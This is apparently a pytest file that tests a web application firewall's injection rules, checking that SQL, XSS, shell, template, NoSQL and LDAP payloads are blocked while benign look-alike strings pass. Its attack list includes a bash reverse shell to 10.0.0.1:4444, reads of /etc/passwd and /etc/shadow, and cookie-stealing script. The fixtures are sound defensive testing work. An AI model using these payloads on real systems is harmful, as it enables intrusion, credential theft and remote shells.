"""Rule families that inject into an interpreter: SQL, HTML/JS, shell, templates, NoSQL
and LDAP queries. Every family has attacks (blocked at paranoia 1, by that family) and
benign look-alikes (passed)."""

from __future__ import annotations

import pytest

from tests.edge.waf.rules_helper import families, verdict

ATTACKS = [
    ("sqli", "1' OR '1'='1", "query"),
    ("sqli", "1 UNION/**/SELECT username, password FROM users--", "query"),
    ("sqli", "x'; DROP TABLE users; --", "json"),
    ("sqli", "1 AND SLEEP(5)", "form"),
    ("sqli", "'; WAITFOR DELAY '0:0:5'--", "header"),
    ("sqli", "admin'--", "cookie"),
    ("sqli", "1' AND extractvalue(1,concat(0x7e,version()))--", "json-key"),
    ("xss", "<script>alert(1)</script>", "query"),
    ("xss", "<img src=x onerror=alert(document.cookie)>", "json"),
    ("xss", "<svg/onload=alert`1`>", "header"),
    ("xss", "javascript:alert(1)", "form"),
    ("xss", "&lt;script&gt;alert(1)&lt;/script&gt;", "json"),
    ("xss", "<iframe src=\"data:text/html;base64,PHNjcmlwdD4=\">", "cookie"),
    ("rce", "; cat /etc/passwd", "query"),
    ("rce", "| whoami", "json"),
    ("rce", "$(id)", "header"),
    ("rce", "`whoami`", "form"),
    ("rce", "a;c'a't${IFS}/etc/shadow", "query"),
    ("rce", "&& ping -c 3 10.0.0.1", "json"),
    ("rce", "cmd.exe /c dir", "query"),
    ("rce", "powershell -enc SQBFAFgA", "json"),
    ("rce", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "cookie"),
    ("ssti", "{{7*7}}", "query"),
    ("ssti", "${7*7}", "json"),
    ("ssti", "<%= 7 * 7 %>", "form"),
    ("ssti", "#{7*7}", "header"),
    ("ssti", "{{ ''.__class__.__mro__[1].__subclasses__() }}", "json"),
    ("ssti", "{{config.items()}}", "query"),
    ("ssti", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>", "json"),
    ("nosqli", '{"$ne": null}', "json"),
    ("nosqli", "$where", "json-key"),
    ("nosqli", "$gt", "json-key"),
    ("nosqli", "'; return this.password == 'x", "query"),
    ("ldap", "*)(uid=*))(|(uid=*", "query"),
    ("ldap", "admin)(&)", "form"),
    ("ldap", "*)(|(objectclass=*)", "json"),
]

BENIGN = [
    "O'Brien", "Rock 'n' roll", "12\" Skillet", "I'm 5'10\" and 180 lbs",
    "Tom & Jerry; cat food for my cats", "select your size", "Union Station",
    "Please drop by; update me later", "a+b=c", "SELECT is a SQL keyword",
    "<b>bold</b> and <i>italic</i> markdown", "JavaScript: the good parts",
    "Use `ls -la` to list files", "My email is jane.o'neil@example.com",
    "{{ name }} is a template placeholder", "The price is ${price}", "50% off!",
    "C# and F# are languages", "(see above) (a.k.a. this)", "cost: 5*3 = 15",
    "arn:aws:s3:::my-bucket/${aws:username}/*", "1 + 1 = 2", "drop-down menu",
    "the $ne plus ultra", "https://example.com/docs?page=2",
]
PLACES = ["query", "form", "json", "header", "cookie"]


@pytest.mark.parametrize(("family", "payload", "where"), ATTACKS,
                         ids=[f"{f}-{w}-{p[:24]}" for f, p, w in ATTACKS])
def test_attack_is_blocked(family: str, payload: str, where: str) -> None:
    v = verdict(payload, where)
    assert v.blocked and family in families(v), (v.score, v.matches)


@pytest.mark.parametrize("where", PLACES)
@pytest.mark.parametrize("payload", BENIGN)
def test_benign_passes(payload: str, where: str) -> None:
    v = verdict(payload, where)
    assert not v.blocked, v.matches


def test_paranoia_2_adds_stricter_rules() -> None:
    v1, v2 = verdict("x' -- y", paranoia=1), verdict("x' -- y", paranoia=2)
    assert "110106" not in {m.rule_id for m in v1.matches}
    assert "110106" in {m.rule_id for m in v2.matches}
